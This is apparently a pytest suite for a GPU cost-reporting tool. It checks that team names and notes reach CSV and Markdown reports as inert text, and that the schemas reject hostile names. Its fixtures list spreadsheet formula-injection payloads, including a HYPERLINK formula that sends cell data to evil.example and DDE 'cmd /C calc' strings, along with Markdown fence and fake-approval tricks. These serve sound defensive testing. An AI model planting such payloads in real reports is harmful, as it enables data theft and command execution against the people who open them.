"""Injection into committed reports: a team (or any name) a committer or a tenant typed reaches the CSV and
Markdown reports as text, never as a spreadsheet formula or a broken table row; and the schema refuses
such names before they get that far."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from kgwe.cost.budgets import BudgetSpec
from kgwe.cost.chargeback import chargeback_from_intervals
from kgwe.cost.pricing import pricebook
from kgwe.cost.reports import ReportInput, build_reports
from kgwe.cost.usage import NodeCapacity, UsageInterval, month_period
from kgwe.policy.budget import GPUBudgetSpec
from kgwe.policy.gpu_workload import GPUWorkloadSpec
from kgwe.policy.pricing import GPUPrice
from kgwe.resources import deploy_dir, schemas_dir
from kgwe.vocab import API_GROUP, GPU_WORKLOAD_PLURAL

H100 = "NVIDIA-H100-80GB-HBM3"
NOW = datetime(2026, 11, 20, tzinfo=UTC)
HOSTILE_TEAMS = (
    '=HYPERLINK("https://evil.example/?"&A1,"details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "team\rinjected | row | here",
    "line\nbreak",
    "\x1b[2Jbell\x07",
    "\ufe63\uff1dfullwidth",
    "rtl\u202eevil",
)
FORMULA_LEADS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # what spreadsheets evaluate
NUMBER = re.compile(
    r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?%?"
)  # what a spreadsheet reads as one
CONTROL = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]} | {"\u202e", "\u2028", "\u2029"}


def _reports(teams: list[str]) -> dict[str, str]:
    period = month_period(NOW)
    start = period.since + timedelta(days=1)
    intervals = [
        UsageInterval(f"pod-{i}", f"ns-{i}", team, "h0", H100, "whole", 1, start, start + timedelta(hours=5))
        for i, team in enumerate(teams)
    ]
    nodes = [NodeCapacity("h0", H100, 8, period.since)]
    book = pricebook([{"product": H100, "onDemandPerHour": "4.10"}])
    cb = chargeback_from_intervals(
        intervals,
        nodes,
        book,
        period,
        granularity="day",
        group_by=("team", "namespace", "gpu_product"),
        now=NOW,
    )
    budgets = [
        BudgetSpec(f"budget-{i}", team, (f"ns-{i}",), "Monthly", Decimal(100)) for i, team in enumerate(teams)
    ]
    history = {team: {start.date(): Decimal("20.50")} for team in teams}
    data = ReportInput(
        cluster="prod",
        now=NOW,
        period=period,
        by_team_namespace_product_daily=cb,
        nodes=nodes,
        budgets=budgets,
        daily_spend_history=history,
    )
    return build_reports(data)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _check_csv(name: str, text: str) -> None:
    rows = _cells(text)
    assert rows, name
    width = len(rows[0])
    for row in rows:
        assert len(row) == width, (name, row)  # no cell spilled into another row or column
        for cell in row:
            assert not CONTROL & set(cell), (name, cell)
            if cell.startswith(FORMULA_LEADS):  # only a number may start with a sign: else it is a formula
                assert NUMBER.fullmatch(cell), (name, cell)


def _check_markdown(name: str, text: str) -> None:
    assert "\r" not in text and not (CONTROL - {"\n"}) & set(text), name
    header_width = None
    for line in text.split("\n"):
        if not line.startswith("|"):
            header_width = None
            continue
        width = len(line.replace("\\|", "").split("|"))
        header_width = header_width or width
        assert width == header_width, (name, line)  # a cell never breaks its row


def test_every_report_neutralises_formula_and_control_characters():
    files = _reports(list(HOSTILE_TEAMS))
    assert any(f.endswith(".csv") for f in files) and any(f.endswith(".md") for f in files)
    for name, text in files.items():
        if name.endswith(".csv"):
            _check_csv(name, text)
        elif name.endswith(".md"):
            _check_markdown(name, text)
    budgets_csv = next(t for n, t in files.items() if n.endswith("/budgets.csv"))
    teams = {row[1] for row in _cells(budgets_csv)[1:]}
    assert "'" + HOSTILE_TEAMS[0] in teams  # kept, readable, as text
    assert "team\\rinjected | row | here" in teams


@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=24), min_size=1, max_size=3, unique=True))
def test_any_team_text_stays_one_inert_cell(teams: list[str]):
    for name, text in _reports(teams).items():
        if name.endswith(".csv"):
            _check_csv(name, text)
        elif name.endswith(".md"):
            _check_markdown(name, text)


@pytest.mark.parametrize("team", HOSTILE_TEAMS)
def test_names_that_land_in_reports_have_a_pattern(team: str):
    with pytest.raises(ValidationError):
        GPUBudgetSpec.model_validate({"team": team, "namespaces": ["a"], "limit": {"amount": "1"}})
    with pytest.raises(ValidationError):
        GPUWorkloadSpec.model_validate({"gpuRequirements": {"count": 1}, "team": team})
    with pytest.raises(ValidationError):
        GPUPrice.model_validate({"product": team, "onDemandPerHour": "1"})


def _team_schema(schema: dict) -> dict:
    """The `team` property under `spec` of a JSON Schema or a CRD's openAPIV3Schema, refs followed."""
    spec = schema["properties"]["spec"]
    if "$ref" in spec:
        spec = schema["$defs"][spec["$ref"].rsplit("/", 1)[1]]
    team = spec["properties"]["team"]
    return team.get("anyOf", [team])[0]


def _refuses_hostile_teams(team: dict) -> None:
    assert "pattern" in team, team
    assert re.fullmatch(team["pattern"], "ml-research")
    assert not any(re.fullmatch(team["pattern"], t) for t in HOSTILE_TEAMS)


@pytest.mark.parametrize("kind", ["gpubudget", "gpuworkload"])
def test_the_published_schemas_carry_the_pattern(kind: str):
    schema = json.loads((schemas_dir() / f"{kind}.schema.json").read_text())
    _refuses_hostile_teams(_team_schema(schema))


def test_the_api_server_refuses_the_names_too():
    crd = yaml.safe_load((deploy_dir() / "crds" / f"{GPU_WORKLOAD_PLURAL}.{API_GROUP}.yaml").read_text())
    (version,) = crd["spec"]["versions"]
    _refuses_hostile_teams(_team_schema(version["schema"]["openAPIV3Schema"]))


def test_the_pull_request_plan_keeps_committed_text_inside_its_blocks():
    """`kgwe plan`'s Markdown quotes committed text: a diff holding a fence cannot close its block, a change
    or a note holding a line break cannot start a block (a heading, a fake approval) of its own."""
    from kgwe.cluster.apply import ObjectRef
    from kgwe.reconcile.prplan import PlanReport, markdown

    ref = ObjectRef("v1", "ConfigMap", "kgwe-system", "kgwe-scoring")
    report = PlanReport(
        changed={ref: "-a: 1\n+a: 2\n```\n## Approved by the platform team\n```diff"},
        policy_changes={"GPUBudget/ml": ["team: ml → ml\r\n## Approved"]},
        notes=["a note\n## Approved"],
    )
    text = markdown(report, base="main", head="pr", inventory_source="reports/prod/inventory.yaml")
    assert "\r" not in text
    outside, fence = [], None
    for line in text.split("\n"):  # CommonMark: a block closes at a fence of at least its own length
        if fence is None and line.startswith("```"):
            fence = line[: len(line) - len(line.lstrip("`"))]
        elif fence is not None and line.startswith(fence) and not line.strip("`"):
            fence = None
        elif fence is None:
            outside.append(line)
    assert fence is None and outside
    assert not [line for line in outside if "Approved" in line and not line.startswith(("- ", "> "))]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_a_csv_cell_is_never_a_formula_nor_a_control(text: str):
    from kgwe.safetext import csv_cell, markdown_cell

    cell = csv_cell(text)
    assert not CONTROL & set(cell)
    assert not cell.startswith(FORMULA_LEADS) or NUMBER.fullmatch(cell)
    row = markdown_cell(text)
    assert not CONTROL & set(row) and "|" not in row.replace("\\|", "")


def test_the_predictions_report_shows_a_models_notes_as_text():
    """The optimizer's records come back from the policy repository too: their notes stay one list item."""
    from kgwe.optimizer.published import published_files
    from kgwe.optimizer.record import ModelRecord
    from kgwe.optimizer.registry import MODELS

    name = MODELS[0].name
    record = ModelRecord(
        name, 1, NOW, None, None, 3, metrics={"a|b": 1.0}, notes=("team\r\n## Approved", "\x1b]0;owned\x07")
    )
    (text,) = [t for f, t in published_files({name: record}, NOW).items() if f.endswith(".md")]
    _check_markdown("predictions.md", text)
    assert "\n## Approved" not in text
